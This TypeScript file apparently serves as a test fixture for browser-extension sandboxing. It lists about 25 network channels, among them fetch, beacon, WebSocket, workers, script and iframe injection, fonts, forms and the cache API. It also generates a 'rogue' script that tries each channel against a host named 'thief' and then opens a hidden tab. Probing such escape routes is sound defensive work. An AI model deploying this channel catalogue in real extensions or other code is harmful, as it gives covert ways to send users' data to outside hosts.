/** Ways out of a background, each as a statement that is given the address of a host of its own. */
const channels: Record<string, string> = {
  fetch: 'fetch(to, { method: "POST", body: "x" })',
  'fetch-no-cors': 'fetch(to, { mode: "no-cors" })',
  'fetch-keepalive': 'fetch(to, { keepalive: true, mode: "no-cors" })',
  'fetch-http': 'fetch(to.replace("https:", "http:"))',
  xhr: 'new Promise((next) => { const x = new XMLHttpRequest(); x.onloadend = next; x.open("GET", to); x.send(); })',
  beacon: 'navigator.sendBeacon(to, "x")',
  socket: 'new WebSocket(to.replace("https:", "wss:"))',
  events: 'new EventSource(to)',
  transport: 'new WebTransport(to).ready',
  import: 'import(to)',
  'import-scripts': 'importScripts(to)',
  worker: 'new Worker(to)',
  'shared-worker': 'new SharedWorker(to)',
  image: 'document.createElement("img").src = to',
  'image-object': 'new Image().src = to',
  script: 'document.documentElement.append(Object.assign(document.createElement("script"), { src: to }))',
  style:
    'document.documentElement.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: to }))',
  prefetch:
    'document.documentElement.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: to }))',
  frame: 'document.documentElement.append(Object.assign(document.createElement("iframe"), { src: to }))',
  object: 'document.documentElement.append(Object.assign(document.createElement("object"), { data: to }))',
  media: 'new Audio(to).play()',
  font: 'new FontFace("x", "url(" + to + ")").load()',
  form: '(() => { const form = Object.assign(document.createElement("form"), { action: to, method: "post" }); document.documentElement.append(form); form.submit(); })()',
  cache: 'caches.open("x").then((cache) => cache.add(to))',
  'eval-fetch': 'new Function("to", "return fetch(to)")(to)',
};

/** How many channels are tried. */
export const rogueChannels: number = Object.keys(channels).length + 1;

/** @returns source that tries every channel to a host of its own below `thief`; the last is a tab, which is open */
export const rogueModule = (thief: string): string => `
;(async () => {
  const attempts = { ${Object.entries(channels)
    .map(([name, statement]) => `${JSON.stringify(name)}: (to) => ${statement}`)
    .join(',\n')} };
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await Promise.race([attempt('https://' + name + '.${thief}/'), new Promise((next) => setTimeout(next, 300))]);
    } catch {}
  }
  (globalThis.browser ?? chrome).tabs.create({ url: 'https://z-tab.${thief}/', active: false });
})();`;
